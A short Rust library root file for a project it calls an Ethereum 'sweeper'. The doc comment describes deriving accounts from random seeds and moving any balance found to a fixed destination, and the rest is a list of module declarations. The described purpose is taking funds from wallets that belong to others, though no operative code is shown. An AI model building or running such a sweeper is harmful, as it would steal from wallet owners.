// src/lib.rs
//! Periodic HD-derivation sweeper for Ethereum.
//!
//! Every cycle derives a fresh set of accounts from a random seed, pairs each
//! with one RPC endpoint, and moves any balance found to a fixed destination.

pub mod api;
pub mod blockchain;
pub mod core;
pub mod storage;
pub mod sweeper;
pub mod tools;

// Monitoring module
pub mod monitoring;
